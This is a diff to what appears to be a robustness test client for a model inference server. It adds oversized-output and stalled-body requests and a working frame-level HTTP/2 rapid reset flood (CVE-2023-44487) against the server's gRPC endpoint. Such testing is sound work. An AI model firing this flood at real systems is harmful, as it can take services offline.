@@ -5,9 +5,11 @@ and records what happened to each (:class:`Outcome`)."""
 from __future__ import annotations
 
 import http.client
+import json
 import random
 import socket
 import struct
+import threading
 import time
 import zlib
 from dataclasses import dataclass
@@ -30,10 +32,16 @@ MIX = {
     "oversized-close": 4,
     "slow": 9,
     "abandoned": 10,
+    "many-outputs-v2": 3,
+    "silent-body": 3,
 }
 VALID = ("valid-classify", "valid-v2-fp32")
 # kinds where the client closes on purpose: never lost, whatever happens
-CLIENT_CLOSES = ("oversized-close", "abandoned")
+CLIENT_CLOSES = ("oversized-close", "abandoned", "silent-body")
+#: how long a silent body's connection is held (its head sent, none of its body) before closing
+SILENT_HOLD_S = 0.5
+#: the outputs a many-outputs request names (the model has 2; the pairwise check took seconds)
+MANY_OUTPUTS = 8_000
 
 
 @dataclass
@@ -99,6 +107,18 @@ class Corpus:
         self.infer = f"/v2/models/{model or card.name}/infer"  # model: a repository's name
         self.classify = [upload(f, f"{i}.jpg") for i, f in enumerate(files)]
         self.v2 = [request(self.infer, body) for body in tensor_bodies(card, files)]
+        # a valid image tensor, and far more outputs than the model has: 400 at once
+        side = card.input
+        image = [0.0] * (side.channels * side.height * side.width)
+        shape = [1, side.channels, side.height, side.width]
+        many = {
+            "inputs": [{"name": "image", "datatype": "FP32", "shape": shape, "data": image}],
+            "outputs": [{"name": f"out{i}"} for i in range(MANY_OUTPUTS)],
+        }
+        json_type = {"Content-Type": "application/json"}
+        self.many_outputs = request(self.infer, Body(json.dumps(many).encode(), json_type))
+        # a /classify upload that declares max_request_bytes and never sends its body
+        self.silent = broken(b"", length=64 * 2**20)
 
     def build(self, kind: str, rng: random.Random) -> Request:
         k = rng.randrange(len(self.classify))
@@ -136,6 +156,10 @@ class Corpus:
             )
         if kind == "oversized-close":
             return broken(noise[:1024], length=2**40)
+        if kind == "many-outputs-v2":
+            return self.many_outputs
+        if kind == "silent-body":
+            return self.silent
         raise ValueError(f"unknown kind {kind!r}; expected one of {sorted(MIX)}")
 
 
@@ -173,6 +197,8 @@ class Client:
         if out.kind in CLIENT_CLOSES:
             if out.kind == "abandoned":  # a moment after the request, before the answer
                 time.sleep(random.Random(out.index).random() * 0.005)
+            elif out.kind == "silent-body":  # its declared body never comes
+                time.sleep(SILENT_HOLD_S)
             sock.close()
             return
         try:
@@ -206,3 +232,87 @@ class Client:
                 time.sleep(0.05)
                 sock.sendall(req.body[start : start + step])
         out.sent = out.kind != "oversized-close"  # its declared body never comes
+
+
+# ---------------------------------------------------------------------------------------------
+# HTTP/2 rapid reset (CVE-2023-44487's pattern), written frame by frame: no client library sends
+# it, since each call is opened and cancelled at once
+
+_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+_HEADERS, _RST_STREAM, _SETTINGS, _PING, _GOAWAY = 0x1, 0x3, 0x4, 0x6, 0x7
+_END_HEADERS, _ACK, _CANCEL = 0x4, 0x1, 0x8
+MODEL_INFER = "/inference.GRPCInferenceService/ModelInfer"
+
+
+def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
+    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
+
+
+def _literal(name: str, value: str) -> bytes:
+    """One HPACK header field, a literal without indexing (names and values under 127 bytes)."""
+    return b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
+
+
+def rapid_reset(port: int, streams: int, path: str = MODEL_INFER, batch: int = 100) -> str:
+    """Open ``streams`` gRPC calls on one HTTP/2 connection, each cancelled (RST_STREAM) right
+    after its headers, ``batch`` pairs per write; answers the server's SETTINGS and PINGs.
+    How it ended: ``"sent"``, ``"goaway"`` (the server closed the connection with GOAWAY) or
+    the name of the socket error."""
+    block = b"".join(
+        _literal(k, v)
+        for k, v in (
+            (":method", "POST"),
+            (":scheme", "http"),
+            (":path", path),
+            (":authority", f"{HOST}:{port}"),
+            ("content-type", "application/grpc"),
+            ("te", "trailers"),
+        )
+    )
+    ended: list[str] = []
+    with socket.create_connection((HOST, port), timeout=30) as sock:
+        sock.sendall(_PREFACE + _frame(_SETTINGS, 0, 0))
+
+        def read() -> None:  # the server's frames: acknowledged, or its GOAWAY noted
+            buffer = b""
+            try:
+                while True:
+                    data = sock.recv(65536)
+                    if not data:
+                        return
+                    buffer += data
+                    while len(buffer) >= 9:
+                        size = int.from_bytes(buffer[:3], "big")
+                        if len(buffer) < 9 + size:
+                            break
+                        kind, flags = buffer[3], buffer[4]
+                        payload, buffer = buffer[9 : 9 + size], buffer[9 + size :]
+                        if kind == _SETTINGS and not flags & _ACK:
+                            sock.sendall(_frame(_SETTINGS, _ACK, 0))
+                        elif kind == _PING and not flags & _ACK:
+                            sock.sendall(_frame(_PING, _ACK, 0, payload))
+                        elif kind == _GOAWAY:
+                            ended.append("goaway")
+            except OSError:
+                return
+
+        reader = threading.Thread(target=read, daemon=True)
+        reader.start()
+        cancel = struct.pack(">I", _CANCEL)
+        try:
+            for start in range(0, streams, batch):
+                ids = range(1 + 2 * start, 1 + 2 * min(start + batch, streams), 2)
+                sock.sendall(
+                    b"".join(
+                        _frame(_HEADERS, _END_HEADERS, i, block) + _frame(_RST_STREAM, 0, i, cancel)
+                        for i in ids
+                    )
+                )
+                if ended:
+                    break
+        except OSError as error:
+            return ended[0] if ended else type(error).__name__
+        time.sleep(0.2)  # the server's last frames
+        sock.shutdown(socket.SHUT_RDWR)
+    reader.join(timeout=5)
+    return ended[0] if ended else "sent"
